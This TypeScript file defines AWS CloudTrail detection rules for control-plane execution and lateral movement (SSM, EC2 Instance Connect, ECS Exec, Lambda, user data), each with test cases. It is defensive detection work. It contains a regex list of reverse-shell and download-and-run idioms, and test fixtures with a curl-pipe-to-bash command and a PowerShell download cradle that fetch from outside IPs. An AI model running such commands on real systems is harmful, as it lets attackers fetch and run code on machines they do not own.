/**
 * Execution and lateral movement on AWS: running code on instances and containers through the
 * control plane (SSM, EC2 Instance Connect, ECS Exec, Lambda, user data).
 */
import type { Detection, DetectionContext, Hit } from '../types.ts';
import { actorClass, RISK, untrustedSource } from './aws-helpers-a.ts';
import {
  awsService,
  burst,
  type CtSpec,
  ct,
  ctGet,
  ctList,
  ctStr,
  ctStrings,
  distinctAll,
  eventNameOf,
  fromUntrustedNetwork,
  iamUser,
  instanceArn,
  isAwsServiceActor,
  isLongTermKey,
  MINUTE,
  once,
  principalOf,
  reachedTier,
  resourceEntity,
  roleSession,
  serviceDriven,
  succeeded,
  timeOf,
} from './aws-helpers-b.ts';

const TEN_MIN = 10 * MINUTE;

/**
 * A person (or root) at the keyboard from an address outside the trusted networks: the case where
 * interactive access to an instance is worth a line on the timeline on its own. Returns that address.
 */
function personFromOutside(raw: unknown, ctx: DetectionContext): string | undefined {
  const cls = actorClass(raw);
  if (cls !== 'human' && cls !== 'root') return undefined;
  return untrustedSource(raw, ctx);
}

/** Instance ids an SSM SendCommand reaches: explicit ids, or an InstanceIds target (possibly "*"). */
function commandTargets(raw: unknown): { ids: string[]; everything: boolean } {
  const ids = ctStrings(raw, 'requestParameters.instanceIds');
  let everything = false;
  for (const t of ctList(raw, 'requestParameters.targets')) {
    const key = ctStr(t, 'key') ?? ctStr(t, 'Key') ?? '';
    const values = [...ctStrings(t, 'values'), ...ctStrings(t, 'Values')];
    if (key === 'InstanceIds') {
      if (values.includes('*')) everything = true;
      ids.push(...values.filter((v) => v !== '*'));
    }
  }
  return { ids, everything };
}

// ---------------------------------------------------------------------------------------------

const FANOUT_ID = 'aws.ssm.send_command_fanout';
const sendCommand = (i: number, ids: string[], extra: Partial<CtSpec> = {}): CtSpec => ({
  name: 'SendCommand',
  source: 'ssm',
  actor: roleSession('OpsEngineer', 'k.morgan'),
  params: {
    instanceIds: ids,
    documentName: 'AWS-RunShellScript',
    parameters: 'HIDDEN_DUE_TO_SECURITY_REASONS',
    interactive: false,
  },
  at: i * 30,
  ...extra,
});

const commandFanout: Detection = {
  id: FANOUT_ID,
  title: 'SSM commands sent to many instances',
  description:
    'One principal ran SSM SendCommand against three or more distinct instances within ten minutes, or against ' +
    'every managed instance ("InstanceIds=*"). Run Command executes as root/SYSTEM on the targets, so a stolen ' +
    'operator credential can turn into code running across a fleet. Maintenance through State Manager runs as ' +
    'the SSM service and is ignored; tag-targeted runs count once per tag.',
  attack: ['T1651'],
  tactic: 'TA0002',
  severity: 'medium',
  risk: 25,
  sources: ['cloudtrail'],
  triggers: ['SendCommand'],
  detect(ev, ctx): Hit | undefined {
    const raw = ev.raw;
    if (!succeeded(raw) || isAwsServiceActor(raw)) return undefined;
    const who = principalOf(raw);
    if (!who) return undefined;
    const { ids, everything } = commandTargets(raw);
    const tags = ctList(raw, 'requestParameters.targets')
      .map((t) => `${ctStr(t, 'key') ?? ''}=${ctStrings(t, 'values').join(',')}`)
      .filter((t) => !t.startsWith('InstanceIds='));
    const t = timeOf(ev);
    const key = `${FANOUT_ID}|${who}`;
    const n = distinctAll(ctx, key, [...ids, ...tags], t, TEN_MIN);
    const document = ctStr(raw, 'requestParameters.documentName') ?? '';
    if (everything && once(ctx, `${key}|all`, t, TEN_MIN)) {
      return { severity: 'high', risk: 50, evidence: { all_instances: true, document } };
    }
    const tier = reachedTier(ctx, key, n, t, TEN_MIN, [
      { min: 3, severity: 'medium', risk: 25 },
      { min: 25, severity: 'high', risk: 50 },
    ]);
    return tier
      ? { severity: tier.severity, risk: tier.risk, evidence: { distinct_targets: n, document } }
      : undefined;
  },
  cases: [
    {
      name: 'shell commands pushed to three instances one after another',
      fires: true,
      records: burst(3, (i) => sendCommand(i, [`i-0aa${i}1b2c3d4e5f6789`])),
    },
    {
      name: 'one call against all managed instances',
      fires: true,
      records: [
        ct(
          sendCommand(0, [], {
            params: { targets: [{ key: 'InstanceIds', values: ['*'] }], documentName: 'AWS-RunShellScript' },
          }),
        ),
      ],
    },
    {
      name: 'patching two instances',
      fires: false,
      records: burst(2, (i) => sendCommand(i, [`i-0aa${i}1b2c3d4e5f6789`])),
    },
    {
      name: 'State Manager association running on many instances',
      fires: false,
      records: burst(8, (i) =>
        sendCommand(i, [`i-0aa${i}1b2c3d4e5f6789`], {
          actor: awsService('ssm.amazonaws.com'),
          ip: 'ssm.amazonaws.com',
        }),
      ),
    },
  ],
};

// ---------------------------------------------------------------------------------------------

const SESSION_ID = 'aws.ssm.session_fanout';
const sessionFanout: Detection = {
  id: SESSION_ID,
  title: 'Interactive SSM sessions opened on several instances',
  description:
    'One principal opened Session Manager shells on three or more distinct instances within ten minutes (medium; ' +
    'high at fifteen). People usually work on one or two hosts at a time; hopping across many is how an intruder ' +
    'with cloud credentials moves laterally without SSH keys or open ports. A single session opened by a person ' +
    'from outside the trusted networks is a notable access (medium on the timeline, low risk, once per person ' +
    'and instance per hour): a shell with the instance role reached from anywhere, which is what stolen console ' +
    'or SSO sessions are used for. Sessions by workloads, from trusted networks, by AWS services, and refused ' +
    'calls are not reported alone.',
  attack: ['T1021.007'],
  tactic: 'TA0008',
  severity: 'medium',
  risk: 25,
  sources: ['cloudtrail'],
  triggers: ['StartSession'],
  detect(ev, ctx): Hit | undefined {
    const raw = ev.raw;
    if (!succeeded(raw) || isAwsServiceActor(raw)) return undefined;
    const who = principalOf(raw);
    const target = ctStr(raw, 'requestParameters.target');
    if (!who || !target) return undefined;
    const t = timeOf(ev);
    const key = `${SESSION_ID}|${who}`;
    const n = ctx.window.distinct(key, target, t, TEN_MIN);
    const tier = reachedTier(ctx, key, n, t, TEN_MIN, [
      { min: 3, severity: 'medium', risk: 25 },
      { min: 15, severity: 'high', risk: 50 },
    ]);
    const entities = [resourceEntity(instanceArn(raw, target))];
    if (tier)
      return { severity: tier.severity, risk: tier.risk, entities, evidence: { distinct_targets: n } };
    const outside = personFromOutside(raw, ctx);
    if (!outside || !once(ctx, `${key}|outside|${target}`, t, 60 * MINUTE)) return undefined;
    return { risk: RISK.low, entities, evidence: { distinct_targets: n, target, source_ip: outside } };
  },
  cases: [
    {
      name: 'sessions on three instances in three minutes',
      fires: true,
      records: burst(3, (i) => ({
        name: 'StartSession',
        source: 'ssm',
        actor: roleSession('SampleRole', 'bobson.dugnutt'),
        params: { target: `i-047fce8bf4806e5e${i}` },
        response: { sessionId: `bobson.dugnutt-0${i}`, tokenValue: 'Value hidden due to security reasons.' },
        at: i * 60,
      })),
    },
    {
      name: 'one session by an SSO user from an outside address',
      fires: true,
      records: [
        ct({
          name: 'StartSession',
          source: 'ssm',
          actor: roleSession('AWSReservedSSO_Operator_5f1e2d3c4b5a6978', 'nadia.k'),
          ip: '185.220.101.34',
          params: { target: 'i-0de1f2a3b4c5d6e7f' },
          response: {
            sessionId: 'nadia.k-0a1b2c3d4e5f',
            tokenValue: 'Value hidden due to security reasons.',
          },
        }),
      ],
    },
    {
      name: 'repeated sessions on the same bastion by a workload',
      fires: false,
      records: burst(6, (i) => ({
        name: 'StartSession',
        source: 'ssm',
        actor: roleSession('patch-orchestrator', 'run-1187'),
        params: { target: 'i-047fce8bf4806e5ee' },
        at: i * 60,
      })),
    },
    {
      name: 'one session by a person from the office network',
      fires: false,
      records: [
        ct({
          name: 'StartSession',
          source: 'ssm',
          actor: iamUser('dana.ops'),
          ip: '10.20.30.40',
          params: { target: 'i-0de1f2a3b4c5d6e7f' },
        }),
      ],
    },
  ],
};

// ---------------------------------------------------------------------------------------------

/** Download-and-run and reverse-shell idioms in shell and PowerShell command lines. */
const DOWNLOAD_EXEC: RegExp[] = [
  /\b(curl|wget)\b[^|;&\n]*\|\s*(sudo\s+)?(ba|z|da|k)?sh\b/i,
  /\b(curl|wget)\b[^\n]*(-o|-O|--output|>)\s*\S+[^\n]*(&&|;|\n)\s*(sudo\s+)?(chmod\s+[+0-7]|(ba)?sh\s+|\.\/|python3?\s+|nohup\s)/i,
  /(invoke-webrequest|\biwr\b|invoke-restmethod|\birm\b|net\.webclient|downloadstring|downloadfile|start-bitstransfer)[^\n]*(\biex\b|invoke-expression|start-process|\|\s*iex)/i,
  /\b(iex|invoke-expression)\b[^\n]*(downloadstring|invoke-webrequest|\biwr\b|net\.webclient)/i,
  /certutil(\.exe)?\s+[^\n]*-urlcache/i,
  /base64\s+(-d|--decode)[^\n]*\|\s*(ba)?sh\b/i,
  /\/dev\/tcp\/\d{1,3}(\.\d{1,3}){3}\/\d+/i,
  /\b(nc|ncat|netcat)\b[^\n]*\s-e\s/i,
  /\bbash\s+-i\s*>&/i,
  /python3?\s+-c\s+['"][^'"]*socket[^'"]*connect/i,
  /\b(xmrig|minerd|cpuminer|stratum\+tcp)\b/i,
];

function commandText(raw: unknown): string {
  const parts: string[] = [];
  for (const path of ['requestParameters.parameters.commands', 'requestParameters.parameters.command']) {
    for (const v of ctList(raw, path)) if (typeof v === 'string') parts.push(v);
  }
  return parts.join('\n');
}

const dlExec: Detection = {
  id: 'aws.ssm.download_and_execute_command',
  title: 'SSM command downloads and runs code',
  description:
    'An SSM Run Command or interactive-command session carries a command line that fetches a payload and ' +
    'executes it (curl/wget piped to a shell, PowerShell download cradles, certutil downloads, base64-decoded ' +
    'scripts), opens a reverse shell, or starts a cryptominer. Through SSM this runs with root/SYSTEM rights on ' +
    'the target. CloudTrail hides parameters of some documents; those calls cannot be judged here.',
  attack: ['T1651', 'T1059', 'T1105'],
  tactic: 'TA0002',
  severity: 'high',
  risk: 50,
  sources: ['cloudtrail'],
  triggers: ['SendCommand', 'StartSession'],
  detect(ev): Hit | undefined {
    const raw = ev.raw;
    if (!succeeded(raw)) return undefined;
    const text = commandText(raw);
    if (text === '') return undefined;
    const match = DOWNLOAD_EXEC.find((re) => re.test(text));
    if (!match) return undefined;
    const ids = commandTargets(raw).ids;
    const target = ctStr(raw, 'requestParameters.target');
    const instances = target ? [target] : ids;
    return {
      entities: instances.slice(0, 20).map((i) => resourceEntity(instanceArn(raw, i))),
      evidence: {
        document: ctStr(raw, 'requestParameters.documentName') ?? '',
        command_excerpt: (text.match(match)?.[0] ?? '').slice(0, 160),
        targets: instances.length,
      },
    };
  },
  cases: [
    {
      name: 'curl piped to bash on a web server',
      fires: true,
      records: [
        ct({
          name: 'SendCommand',
          source: 'ssm',
          actor: iamUser('deploy-bot'),
          params: {
            instanceIds: ['i-0b22a22eec53b9321'],
            documentName: 'AWS-RunShellScript',
            parameters: { commands: ['cd /tmp', 'curl -fsSL http://45.9.148.10/x.sh | sudo bash'] },
          },
        }),
      ],
    },
    {
      name: 'PowerShell download cradle on a Windows host',
      fires: true,
      records: [
        ct({
          name: 'SendCommand',
          source: 'ssm',
          params: {
            instanceIds: ['i-0c33b33ffc64c0432'],
            documentName: 'AWS-RunPowerShellScript',
            parameters: {
              commands: ["IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.66/a.ps1')"],
            },
          },
        }),
      ],
    },
    {
      name: 'routine package update with curl to a file only',
      fires: false,
      records: [
        ct({
          name: 'SendCommand',
          source: 'ssm',
          params: {
            instanceIds: ['i-0b22a22eec53b9321'],
            documentName: 'AWS-RunShellScript',
            parameters: { commands: ['curl -sS https://internal.example.com/health', 'yum -y update'] },
          },
        }),
      ],
    },
    {
      name: 'parameters hidden by CloudTrail',
      fires: false,
      records: [
        ct({
          name: 'SendCommand',
          source: 'ssm',
          params: {
            instanceIds: ['i-0b22a22eec53b9321'],
            documentName: 'AWS-RunShellScript',
            parameters: 'HIDDEN_DUE_TO_SECURITY_REASONS',
          },
        }),
      ],
    },
  ],
};

// ---------------------------------------------------------------------------------------------

const EIC_ID = 'aws.ec2_instance_connect.ssh_key_pushed';
const pushKey = (i: number, extra: Partial<CtSpec> = {}): CtSpec => ({
  name: 'SendSSHPublicKey',
  source: 'ec2-instance-connect',
  actor: roleSession('SampleRole', 'bobson.dugnutt'),
  params: {
    instanceId: `i-abcdef0123456789${i}`,
    instanceOSUser: 'ec2-user',
    sSHPublicKey: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleKeyMaterialOnly',
  },
  response: { requestId: `25eac5d1-cd24-4156-a49b-fd${i}`, success: true },
  at: i * 40,
  ...extra,
});

const instanceConnect: Detection = {
  id: EIC_ID,
  title: 'SSH key pushed through EC2 Instance Connect',
  description:
    'A temporary SSH public key was pushed to an instance (or its serial console) through EC2 Instance ' +
    'Connect, which lets whoever holds the private key log in for the next minute. One push is ordinary ' +
    'admin work and stays low; pushed by a person from outside the trusted networks it is a notable access ' +
    '(medium on the timeline, low risk), and pushes to several instances in a row, or to the serial console ' +
    '(which bypasses network controls), are medium. Refused pushes and AWS services are ignored.',
  attack: ['T1021.004', 'T1021.007'],
  tactic: 'TA0008',
  severity: 'low',
  risk: 10,
  sources: ['cloudtrail'],
  triggers: ['SendSSHPublicKey', 'SendSerialConsoleSSHPublicKey'],
  detect(ev, ctx): Hit | undefined {
    const raw = ev.raw;
    if (!succeeded(raw) || isAwsServiceActor(raw) || ctGet(raw, 'responseElements.success') === false)
      return undefined;
    const who = principalOf(raw);
    const instance = ctStr(raw, 'requestParameters.instanceId');
    if (!who || !instance) return undefined;
    const t = timeOf(ev);
    const key = `${EIC_ID}|${who}`;
    const n = ctx.window.distinct(key, instance, t, TEN_MIN);
    const serial = eventNameOf(raw) === 'SendSerialConsoleSSHPublicKey';
    const entities = [resourceEntity(instanceArn(raw, instance))];
    const evidence = {
      distinct_instances: n,
      serial_console: serial,
      os_user: ctStr(raw, 'requestParameters.instanceOSUser') ?? '',
    };
    const tier = reachedTier(ctx, key, n, t, TEN_MIN, [{ min: 3, severity: 'medium', risk: 25 }]);
    if (tier) return { severity: tier.severity, risk: tier.risk, entities, evidence };
    if (serial) return { severity: 'medium', risk: 25, entities, evidence };
    const outside = personFromOutside(raw, ctx);
    if (outside)
      return { severity: 'medium', risk: RISK.low, entities, evidence: { ...evidence, source_ip: outside } };
    return { entities, evidence };
  },
  cases: [
    { name: 'one key pushed to one instance by a workload (low)', fires: true, records: [ct(pushKey(0))] },
    {
      name: 'one key pushed by an SSO user from an outside address (medium, low risk)',
      fires: true,
      records: [
        ct(
          pushKey(0, {
            actor: roleSession('AWSReservedSSO_Admin_0a1b2c3d4e5f6789', 'kim'),
            ip: '185.220.101.34',
          }),
        ),
      ],
    },
    {
      name: 'one key pushed by a person from the office network (low)',
      fires: true,
      records: [ct(pushKey(0, { ip: '10.20.30.40' }))],
    },
    {
      name: 'a bastion workload pushing a key (low)',
      fires: true,
      records: [ct(pushKey(0, { actor: roleSession('bastion-broker', 'broker-session-7') }))],
    },
    { name: 'keys pushed to three instances', fires: true, records: burst(3, (i) => pushKey(i)) },
    {
      name: 'serial console key',
      fires: true,
      records: [
        ct(
          pushKey(0, {
            name: 'SendSerialConsoleSSHPublicKey',
            params: { instanceId: 'i-0123456789abcdef0', serialPort: 0 },
          }),
        ),
      ],
    },
    {
      name: 'push denied',
      fires: false,
      records: [ct(pushKey(0, { error: 'AccessDenied', params: null, response: null }))],
    },
  ],
};

// ---------------------------------------------------------------------------------------------

const INVOKE_ID = 'aws.lambda.invoke_with_user_key_untrusted_network';
const lambdaInvoke: Detection = {
  id: INVOKE_ID,
  title: 'Lambda function invoked with a long-term key from outside',
  description:
    'A Lambda function was invoked directly with an IAM user (or root) access key from a network outside the ' +
    'organisation. Functions are normally invoked by events, API Gateway or roles; a leaked user key calling ' +
    'functions is a way to run code (and reach whatever the function role can) inside the account.',
  attack: ['T1648'],
  tactic: 'TA0002',
  severity: 'low',
  risk: 15,
  sources: ['cloudtrail'],
  triggers: ['Invoke'],
  detect(ev, ctx): Hit | undefined {
    const raw = ev.raw;
    if (!succeeded(raw) || !isLongTermKey(raw) || !fromUntrustedNetwork(raw, ctx)) return undefined;
    const fn = ctStr(raw, 'requestParameters.functionName') ?? '';
    const who = principalOf(raw) ?? '';
    if (!once(ctx, `${INVOKE_ID}|${who}|${fn}`, timeOf(ev), 60 * MINUTE)) return undefined;
    return {
      entities: fn.startsWith('arn:') ? [resourceEntity(fn)] : [],
      evidence: { function: fn.split(':').slice(-1)[0] ?? fn },
    };
  },
  cases: [
    {
      name: 'user key invokes a function from a residential IP',
      fires: true,
      records: [
        ct({
          name: 'Invoke',
          source: 'lambda',
          actor: iamUser('old-integration'),
          ip: '92.40.12.7',
          params: { functionName: 'arn:aws:lambda:us-east-1:111122223333:function:admin-tasks' },
          data: true,
        }),
      ],
    },
    {
      name: 'same invocation from the corporate network',
      fires: false,
      records: [
        ct({
          name: 'Invoke',
          source: 'lambda',
          actor: iamUser('old-integration'),
          ip: '10.20.30.40',
          params: { functionName: 'arn:aws:lambda:us-east-1:111122223333:function:admin-tasks' },
          data: true,
        }),
      ],
    },
    {
      name: 'a role session invoking it',
      fires: false,
      records: [
        ct({
          name: 'Invoke',
          source: 'lambda',
          actor: roleSession('step-functions-exec', 'orders'),
          params: { functionName: 'arn:aws:lambda:us-east-1:111122223333:function:admin-tasks' },
          data: true,
        }),
      ],
    },
  ],
};

// ---------------------------------------------------------------------------------------------

const ECS_ID = 'aws.ecs.execute_command';
const ecsExec: Detection = {
  id: ECS_ID,
  title: 'Shell opened in an ECS container',
  description:
    'ECS ExecuteCommand opened a command or interactive shell inside a running container. It is a debugging ' +
    'feature, but it also hands whoever holds the credential the task role and the data the container sees. ' +
    'Low for one task; medium when the same principal execs into several tasks.',
  attack: ['T1609'],
  tactic: 'TA0002',
  severity: 'low',
  risk: 10,
  sources: ['cloudtrail'],
  triggers: ['ExecuteCommand'],
  detect(ev, ctx): Hit | undefined {
    const raw = ev.raw;
    if (!succeeded(raw) || isAwsServiceActor(raw)) return undefined;
    const who = principalOf(raw);
    const task = ctStr(raw, 'requestParameters.task');
    if (!who || !task) return undefined;
    const t = timeOf(ev);
    const key = `${ECS_ID}|${who}`;
    const n = ctx.window.distinct(key, task, t, TEN_MIN);
    const evidence = {
      cluster: ctStr(raw, 'requestParameters.cluster') ?? '',
      container: ctStr(raw, 'requestParameters.container') ?? '',
      command: (ctStr(raw, 'requestParameters.command') ?? '').slice(0, 120),
      distinct_tasks: n,
    };
    const tier = reachedTier(ctx, key, n, t, TEN_MIN, [{ min: 3, severity: 'medium', risk: 25 }]);
    return tier ? { severity: tier.severity, risk: tier.risk, evidence } : { evidence };
  },
  cases: [
    {
      name: 'interactive shell in a payments container',
      fires: true,
      records: [
        ct({
          name: 'ExecuteCommand',
          source: 'ecs',
          params: {
            cluster: 'prod',
            container: 'payments-api',
            command: '/bin/sh',
            interactive: true,
            task: 'arn:aws:ecs:us-east-1:111122223333:task/prod/0f9de17a6465485ab2a3c0b1e0e5ae11',
          },
        }),
      ],
    },
    {
      name: 'exec refused because the task has it disabled',
      fires: false,
      records: [
        ct({
          name: 'ExecuteCommand',
          source: 'ecs',
          params: {
            cluster: 'prod',
            command: '/bin/sh',
            interactive: true,
            task: '0f9de17a6465485ab2a3c0b1e0e5ae11',
          },
          error: 'InvalidParameterException',
        }),
      ],
    },
  ],
};

// ---------------------------------------------------------------------------------------------

const hasUserData = (raw: unknown): boolean => {
  const v = ctGet(raw, 'requestParameters.userData');
  return (typeof v === 'string' && v !== '') || (typeof v === 'object' && v !== null);
};

const runWithUserData: Detection = {
  id: 'aws.ec2.instance_launched_with_user_data_untrusted',
  title: 'Instance launched with a boot script from outside the organisation',
  description:
    'RunInstances with user data was called by a person (not an AWS service such as Auto Scaling or ' +
    'CloudFormation) from a network outside the organisation. User data runs as root at first boot, which makes ' +
    'it a convenient way to start miners, implants or tunnels on fresh capacity. Low on its own.',
  attack: ['T1059', 'T1578.002'],
  tactic: 'TA0002',
  severity: 'low',
  risk: 10,
  sources: ['cloudtrail'],
  triggers: ['RunInstances'],
  detect(ev, ctx): Hit | undefined {
    const raw = ev.raw;
    if (!succeeded(raw) || isAwsServiceActor(raw) || !hasUserData(raw) || !fromUntrustedNetwork(raw, ctx)) {
      return undefined;
    }
    return {
      evidence: {
        instance_type: String(
          ctStr(raw, 'requestParameters.instanceType') ??
            ctStr(raw, 'requestParameters.instanceType.value') ??
            '',
        ),
        region: ctStr(raw, 'awsRegion') ?? '',
      },
    };
  },
  cases: [
    {
      name: 'user key launches an instance with a boot script from a VPS',
      fires: true,
      records: [
        ct({
          name: 'RunInstances',
          source: 'ec2',
          actor: iamUser('ci-legacy'),
          ip: '139.59.22.14',
          params: {
            instancesSet: { items: [{ imageId: 'ami-0abcdef1234567890', minCount: 1, maxCount: 1 }] },
            instanceType: 'c5.4xlarge',
            userData: '<sensitiveDataRemoved>',
          },
        }),
      ],
    },
    {
      name: 'Auto Scaling launching from a template with user data',
      fires: false,
      records: [
        ct({
          name: 'RunInstances',
          source: 'ec2',
          actor: serviceDriven('autoscaling.amazonaws.com', 'AWSServiceRoleForAutoScaling'),
          params: { instanceType: 'm5.large', userData: '<sensitiveDataRemoved>' },
        }),
      ],
    },
    {
      name: 'launch without user data',
      fires: false,
      records: [
        ct({
          name: 'RunInstances',
          source: 'ec2',
          actor: iamUser('ci-legacy'),
          ip: '139.59.22.14',
          params: { instanceType: 't3.micro' },
        }),
      ],
    },
  ],
};

export const AWS_LATERAL_EXECUTION: readonly Detection[] = [
  commandFanout,
  sessionFanout,
  dlExec,
  instanceConnect,
  lambdaInvoke,
  ecsExec,
  runWithUserData,
];
